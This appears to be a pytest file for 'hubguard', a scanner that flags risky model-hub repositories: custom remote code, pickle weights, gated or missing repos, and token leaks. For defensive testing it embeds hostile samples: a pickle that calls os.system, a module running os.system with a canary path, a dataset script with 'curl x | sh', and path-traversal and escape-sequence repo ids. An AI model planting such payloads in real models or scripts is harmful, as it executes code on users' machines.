"""run_remote_pass against the loopback hub, with stand-in scanners (see doubles.py)."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import pytest

from hubguard.findings import HubReference, Level, Location, Region
from hubguard.hub.remote_pass import RemoteOptions, RemoteResult, run_remote_pass
from hubguard.hub.transport import RetryPolicy
from hubguard.revisions import classify_revision
from tests.fakehub import FakeHub
from tests.hub import doubles

FAST = RetryPolicy(attempts=2, backoff=0.01, max_retry_after=1.0)
BENIGN = {
    "config.json": doubles.config({"AutoModel": "modeling_custom.CustomModel"}),
    "modeling_custom.py": b"from . import helpers\nclass CustomModel:\n    pass\n",
    "helpers.py": b"VALUE = 1\n",
    "model.safetensors": b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ",
}


def evil_files(canary: Path) -> dict[str, bytes]:
    payload = f"import os\nos.system('touch {canary}')\nopen({str(canary)!r}, 'w').write('ran')\n"
    return {
        "config.json": doubles.config({"AutoModel": "modeling_evil.EvilModel"}),
        "modeling_evil.py": payload.encode() + b"class EvilModel:\n    pass\n",
        "pytorch_model.bin": b"\x80\x02cos\nsystem\n(X" + f"touch {canary}".encode() + b"\ntR.",
    }


def ref(repo_id: str, revision: str | None = None, *, code: bool = True, weights: bool = True, line: int = 3,
        hub: str = "huggingface", repo_type: str = "model", code_revision: str | None = None) -> HubReference:
    return HubReference(
        hub=hub,
        repo_type=repo_type,
        repo_id=repo_id,
        revision=revision,
        revision_state=classify_revision(revision),
        location=Location("app/train.py", Region(line, 1, line, 40)),
        sink="A1",
        runs_remote_code=code,
        loads_weights=weights,
        code_revision=code_revision,
    )


@pytest.fixture
def options(fake_hub: FakeHub, isolated_hf_env: Path, tmp_path: Path) -> RemoteOptions:
    return RemoteOptions(
        offline=False, timeout=5.0, cache_dir=tmp_path / "hubguard-cache", endpoint=fake_hub.url, token=None,
        max_workers=4, retry=FAST,
    )


def run(
    references: list[HubReference], options: RemoteOptions, scanner: doubles.CodeScanner | None = None
) -> RemoteResult:
    return run_remote_pass(references, options, scanners=doubles.scanners(scanner))


def rules(result: RemoteResult) -> list[str]:
    return sorted(finding.rule_id for finding in result.findings)


def test_benign_custom_code(fake_hub: FakeHub, options: RemoteOptions) -> None:
    sha = fake_hub.add_repo("org/benign", BENIGN)
    result = run([ref("org/benign")], options)
    assert rules(result) == ["HG401"]
    (finding,) = result.findings
    assert finding.location.path == "app/train.py"
    assert finding.properties["repoId"] == "org/benign" and finding.properties["resolvedRevision"] == sha
    assert [loc.path for loc in finding.related] == [
        f"{fake_hub.url}/org/benign/blob/{sha}/helpers.py",
        f"{fake_hub.url}/org/benign/blob/{sha}/modeling_custom.py",
    ]
    assert "'CustomModel'" in finding.message
    assert [(r.repo_id, s) for r, s in result.resolutions] == [("org/benign", sha)]


def test_no_remote_code_flag_means_no_hg401(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/benign", BENIGN)
    assert rules(run([ref("org/benign", code=False)], options)) == []


def test_malicious_code_and_pickle_are_reported_and_never_run(
    fake_hub: FakeHub, options: RemoteOptions, tmp_path: Path
) -> None:
    canary = tmp_path / "canary"
    sha = fake_hub.add_repo("org/evil", evil_files(canary))
    result = run([ref("org/evil")], options)
    assert rules(result) == ["HG401", "HG402", "HG403", "HG404"]
    hg402 = next(f for f in result.findings if f.rule_id == "HG402")
    assert "'modeling_evil.py' line 2" in hg402.message
    assert hg402.related[0].path == f"{fake_hub.url}/org/evil/blob/{sha}/modeling_evil.py"
    assert hg402.related[0].region is not None and hg402.related[0].region.start_line == 2
    assert not canary.exists()


def test_one_code_scan_for_all_repos_and_temp_dir_removed(
    fake_hub: FakeHub, options: RemoteOptions, tmp_path: Path
) -> None:
    fake_hub.add_repo("org/benign", BENIGN)
    fake_hub.add_repo("org/evil", evil_files(tmp_path / "canary"))
    scanner = doubles.CodeScanner()
    result = run([ref("org/benign"), ref("org/evil")], options, scanner)
    assert len(scanner.calls) == 1
    assert not scanner.calls[0].exists()
    assert sum(f.rule_id == "HG402" for f in result.findings) == 1


def test_cross_repo_auto_map(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/cross", {"config.json": doubles.config({"AutoModel": "other/code--modeling_x.XModel"})})
    code_sha = fake_hub.add_repo("other/code", {"modeling_x.py": b"class XModel:\n    pass\n"})
    result = run([ref("org/cross", weights=False)], options)
    assert rules(result) == ["HG406"]
    (finding,) = result.findings
    assert finding.properties["codeRepoId"] == "other/code" and finding.properties["codeRevision"] is None
    assert finding.properties["resolvedCodeRevision"] == code_sha
    assert [loc.path for loc in finding.related] == [f"{fake_hub.url}/other/code/blob/{code_sha}/modeling_x.py"]


def test_cross_repo_code_pinned_by_code_revision(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/cross", {"config.json": doubles.config({"AutoModel": "other/code--modeling_x.XModel"})})
    code_sha = fake_hub.add_repo("other/code", {"modeling_x.py": b"class XModel:\n    pass\n"})
    assert rules(run([ref("org/cross", weights=False, code_revision="main")], options)) == ["HG406"]
    assert rules(run([ref("org/cross", weights=False, code_revision=code_sha)], options)) == []


def test_a_missing_cross_repo_is_a_free_name(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/cross", {"config.json": doubles.config({"AutoModel": "gone/code--modeling_x.XModel"})})
    result = run([ref("org/cross", weights=False)], options)
    assert rules(result) == ["HG406", "HG407"]
    hg407 = next(f for f in result.findings if f.rule_id == "HG407")
    assert "'gone/code' ('AutoModel') does not exist on the hub" in hg407.message


def test_missing_repo(fake_hub: FakeHub, options: RemoteOptions) -> None:
    result = run([ref("org/does-not-exist")], options)
    assert rules(result) == ["HG407"]
    assert result.resolutions == []


def test_gated_repo_without_token_is_incomplete(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/gated", BENIGN, gated=True)
    result = run([ref("org/gated")], options)
    assert "HG405" in rules(result)
    hg405 = next(f for f in result.findings if f.rule_id == "HG405")
    assert "gated" in hg405.message and "HF_TOKEN" in hg405.message
    assert hg405.level is Level.WARNING  # the hub withheld files: the default gate fails closed


def test_gated_repo_with_token(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/gated", BENIGN, gated=True)
    fake_hub.valid_tokens.add("hf_granted")
    options.token = "hf_granted"
    assert rules(run([ref("org/gated")], options)) == ["HG401"]


def test_pickle_only_vs_safetensors(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/pickles", {"pytorch_model.bin": b"\x80\x02}q\x00."})
    fake_hub.add_repo("org/safe", {"model.safetensors": b"x", "pytorch_model.bin": b"\x80\x02cos\nsystem\n."})
    result = run([ref("org/pickles", code=False), ref("org/safe", code=False, line=9)], options)
    assert [(f.rule_id, f.properties["repoId"]) for f in result.findings] == [("HG404", "org/pickles")]
    assert not any(".bin" in path and "org/safe" in path for path in result.stats["bytes_by_file"])


def test_weights_ignored_when_call_does_not_load_them(
    fake_hub: FakeHub, options: RemoteOptions, tmp_path: Path
) -> None:
    fake_hub.add_repo("org/evil", evil_files(tmp_path / "canary"))
    assert "HG403" not in rules(run([ref("org/evil", weights=False)], options))


def test_dataset_loading_script(fake_hub: FakeHub, options: RemoteOptions) -> None:
    sha = fake_hub.add_repo("org/data", {"data.py": b"import os\nos.system('curl x | sh')\n"}, repo_type="dataset")
    result = run([ref("org/data", repo_type="dataset", weights=False)], options)
    assert rules(result) == ["HG401", "HG402"]
    assert result.findings[0].related[0].path.startswith(f"{fake_hub.url}/datasets/org/data/blob/{sha}/")


def test_hub_flagged_repo(fake_hub: FakeHub, options: RemoteOptions) -> None:
    status = {"scansDone": True, "filesWithIssues": [{"path": "model.safetensors", "level": "unsafe"}]}
    fake_hub.add_repo("org/flagged", BENIGN, security_status=status)
    result = run([ref("org/flagged", code=False)], options)
    assert rules(result) == ["HG402"]
    assert "the hub's own scanner flags 'model.safetensors'" in result.findings[0].message


def test_timeout_gives_hg405_and_returns(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/slow", BENIGN)
    fake_hub.fault("/api/models/org/slow", "delay", seconds=30)
    options.timeout = 0.5
    result = run([ref("org/slow")], options)
    assert rules(result) == ["HG405"]
    assert "raise --timeout" in result.findings[0].message and result.findings[0].level is Level.WARNING


def test_transient_faults_are_survived(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/benign", BENIGN)
    fake_hub.fault("/api/models/", "status", status=429, retry_after=0, times=1)
    fake_hub.fault("modeling_custom.py", "reset", times=1)
    fake_hub.fault("helpers.py", "truncate", times=1)
    assert rules(run([ref("org/benign")], options)) == ["HG401"]


def test_references_are_deduplicated(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/benign", BENIGN)
    result = run([ref("org/benign", line=3), ref("org/benign", line=7)], options)
    assert [f.location.region.start_line for f in result.findings if f.location.region] == [3, 7]
    assert sum(r.path.startswith("/api/models/") for r in fake_hub.requests) == 1
    assert sum(r.path.endswith("/helpers.py") for r in fake_hub.requests) == 1


def test_second_run_over_pinned_references_makes_no_request(fake_hub: FakeHub, options: RemoteOptions) -> None:
    sha = fake_hub.add_repo("org/benign", BENIGN)
    first = run([ref("org/benign", sha)], options)
    fake_hub.reset_log()
    second = run([ref("org/benign", sha)], options)
    assert fake_hub.requests == []
    assert second.stats["cache_hits"] == 2 and second.stats["requests"] == 0  # the repository and its code
    assert [(f.rule_id, f.message, f.related) for f in second.findings] == [
        (f.rule_id, f.message, f.related) for f in first.findings
    ]
    assert second.resolutions[0][1] == sha


def test_branches_are_re_resolved(fake_hub: FakeHub, options: RemoteOptions, tmp_path: Path) -> None:
    fake_hub.add_repo("org/moving", BENIGN)
    run([ref("org/moving", "main")], options)
    moved = fake_hub.push("org/moving", evil_files(tmp_path / "canary"))
    result = run([ref("org/moving", "main")], options)
    assert result.resolutions[0][1] == moved
    assert "HG402" in rules(result)


def test_hostile_repo_ids_make_no_request(fake_hub: FakeHub, options: RemoteOptions) -> None:
    hostile = ["../../etc/passwd", "https://evil.example/x", "org/name?x=1", "org/\x1b[2Jname", "a/b/c"]
    result = run([ref(repo_id) for repo_id in hostile] + [ref("org/ok", "../main")], options)
    assert fake_hub.requests == []
    assert result.findings == []
    assert len(result.notifications) == 6
    assert all("\x1b" not in n.message for n in result.notifications)


def test_unsupported_hubs(fake_hub: FakeHub, options: RemoteOptions) -> None:
    result = run([ref("owner/repo", hub="sixthhub", repo_type="github")], options)
    assert rules(result) == ["HG405"]
    assert "remote scanning of sixthhub is not supported yet" in result.findings[0].message
    assert result.findings[0].level is Level.WARNING
    assert fake_hub.requests == []


def test_offline_uses_local_hf_cache(fake_hub: FakeHub, options: RemoteOptions, isolated_hf_env: Path) -> None:
    sha = fake_hub.add_repo("org/benign", BENIGN)
    snapshot = isolated_hf_env / "hub" / "models--org--benign" / "snapshots" / sha
    snapshot.mkdir(parents=True)
    for name in ("config.json", "modeling_custom.py", "helpers.py"):
        (snapshot / name).write_bytes(BENIGN[name])
    (isolated_hf_env / "hub" / "models--org--benign" / "refs").mkdir()
    (isolated_hf_env / "hub" / "models--org--benign" / "refs" / "main").write_text(sha)
    options.offline = True
    result = run([ref("org/benign"), ref("org/uncached", line=9)], options)
    assert fake_hub.requests == []
    assert rules(result) == ["HG401", "HG405", "HG405"]
    assert result.resolutions[0][1] == sha
    uncached = next(f for f in result.findings if f.properties["repoId"] == "org/uncached")
    assert "local Hugging Face cache does not hold it" in uncached.message
    # Offline mode was chosen: what it leaves unscanned is a note, partial snapshot or none at all.
    assert {f.level for f in result.findings if f.rule_id == "HG405"} == {Level.NOTE}


def test_unreachable_hub_falls_back_to_local_cache(options: RemoteOptions, isolated_hf_env: Path) -> None:
    with FakeHub() as gone:
        options.endpoint = gone.url
    result = run([ref("org/benign")], options)
    assert rules(result) == ["HG405"]
    assert "unreachable" in result.findings[0].message
    assert result.findings[0].level is Level.WARNING  # offline by force, not by choice


def test_token_never_leaks(
    fake_hub: FakeHub, options: RemoteOptions, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str],
) -> None:
    marker = "hf_MARKER_3f9a1c7e"
    monkeypatch.setenv("HF_TOKEN", marker)
    caplog.set_level(logging.DEBUG)
    sha = fake_hub.add_repo("org/benign", BENIGN)
    fake_hub.add_repo("org/gated", BENIGN, gated=True)
    fake_hub.fault("/api/models/org/benign", "status", status=500, times=1)
    references = [ref("org/benign", sha), ref("org/gated"), ref("org/missing"), ref("bad id!")]
    result = run(references, options)
    run(references, options)
    assert any(r.authorized for r in fake_hub.requests)  # the token was used ...
    texts = [repr(result.findings), repr(result.notifications), repr(result.stats), caplog.text]
    texts += list(capsys.readouterr())
    texts += [p.read_text(errors="replace") for p in (tmp_path / "hubguard-cache").rglob("*") if p.is_file()]
    assert (tmp_path / "hubguard-cache").exists()
    assert not any(marker in text for text in texts)  # ... and never written anywhere


def test_code_scan_errors_mean_the_code_was_not_analysed(fake_hub: FakeHub, options: RemoteOptions) -> None:
    fake_hub.add_repo("org/benign", BENIGN)
    result = run([ref("org/benign")], options, doubles.CodeScanner(errors=["semgrep exited with 2"]))
    assert rules(result) == ["HG401", "HG408"]
    assert "semgrep exited with 2" in result.findings[1].message
    assert result.findings[1].level is Level.ERROR


def test_a_weight_file_the_hub_failed_to_serve_is_incomplete_and_not_cached(
    fake_hub: FakeHub, options: RemoteOptions, tmp_path: Path
) -> None:
    weights = evil_files(tmp_path / "canary")["pytorch_model.bin"]
    sha = fake_hub.add_repo("org/evil", {"pytorch_model.bin": weights})
    fake_hub.fault(r"pytorch_model\.bin", "reset")
    first = run([ref("org/evil", sha, code=False)], options)
    assert rules(first) == ["HG404", "HG405"]
    assert "pytorch_model.bin" in next(f.message for f in first.findings if f.rule_id == "HG405")
    fake_hub.faults.clear()
    second = run([ref("org/evil", sha, code=False)], options)
    assert second.stats["cache_hits"] == 0
    assert rules(second) == ["HG403", "HG404"]


def test_unreadable_listing_entries_make_the_scan_incomplete(fake_hub: FakeHub, options: RemoteOptions) -> None:
    sha = fake_hub.add_repo("org/odd", BENIGN)
    info_url = f"/api/models/org/odd/revision/{sha}"
    original = fake_hub.route

    def odd_listing(request):  # type: ignore[no-untyped-def]
        reply = original(request)
        if request.target.startswith(info_url):
            payload = json.loads(reply.body)
            payload["siblings"].append({"rfilename": "ghost.bin", "size": "many"})
            reply.body = json.dumps(payload).encode()
        return reply

    fake_hub.route = odd_listing  # type: ignore[method-assign]
    result = run([ref("org/odd", sha)], options)
    assert rules(result) == ["HG401", "HG405"]
    assert "1 file(s) in a form hubguard cannot read" in result.findings[1].message
